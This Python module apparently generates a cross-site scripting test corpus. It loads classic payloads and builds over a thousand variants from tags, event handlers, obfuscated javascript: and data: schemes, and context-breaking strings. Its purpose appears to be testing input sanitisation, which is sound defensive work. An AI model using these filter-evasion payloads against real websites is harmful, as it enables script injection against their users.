"""The XSS corpus: classic payloads (OWASP filter-evasion cheat sheet, PortSwigger's lists),
plus generated tag × event handler, tag × attribute × scheme and context-breaking variants."""

from __future__ import annotations

from pathlib import Path

CLASSIC = Path(__file__).parent / "fixtures" / "xss" / "classic.txt"

TAGS = ["img", "svg", "a", "p", "span", "div", "iframe", "video", "audio", "body", "input",
        "details", "marquee", "object", "embed", "math", "form", "button", "select",
        "textarea", "style", "base", "link", "meta", "table"]
EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin",
          "onanimationstart", "onpageshow", "onpointerenter"]
URL_ATTRS = [("a", "href"), ("img", "src"), ("iframe", "src"), ("form", "action"),
             ("button", "formaction"), ("object", "data"), ("embed", "src"),
             ("svg><a", "xlink:href")]
SCHEMES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
           "java\tscript:alert(1)", "java&#x09;script:alert(1)", "&#106;avascript:alert(1)",
           "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
           "javascript&colon;alert(1)", "\x01javascript:alert(1)", "//evil.example/x",
           "file:///etc/passwd"]
BREAKERS = ['">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>",
            "</noscript>", "\"><!--"]


def url_payloads() -> list[str]:
    """Values for fields that hold a URL (media, avatars, permalinks, links)."""
    return SCHEMES + ["javascript://%0Aalert(1)", "data:image/svg+xml,<svg onload=alert(1)>",
                      "http://127.0.0.1/\"><script>alert(1)</script>"]


def payloads() -> list[str]:
    """At least 1,000 distinct payloads for text and HTML fields."""
    found = [line for line in CLASSIC.read_text(encoding="utf-8").splitlines() if line.strip()]
    for tag in TAGS:
        for event in EVENTS:
            found.append(f"<{tag} {event}=alert(1)>x</{tag}>")
            found.append(f"<{tag.upper()} {event.upper()}=\"alert(1)\" src=x>")
            found.append(f"<{tag}/{event}=alert(1)//>")  # slash for a space
    for tag, attr in URL_ATTRS:
        for scheme in SCHEMES:
            found.append(f'<{tag} {attr}="{scheme}">x</{tag.split("><")[-1]}>')
    for breaker in BREAKERS:
        for core in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                     "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>"):
            found.append(breaker + core)
    return list(dict.fromkeys(found))
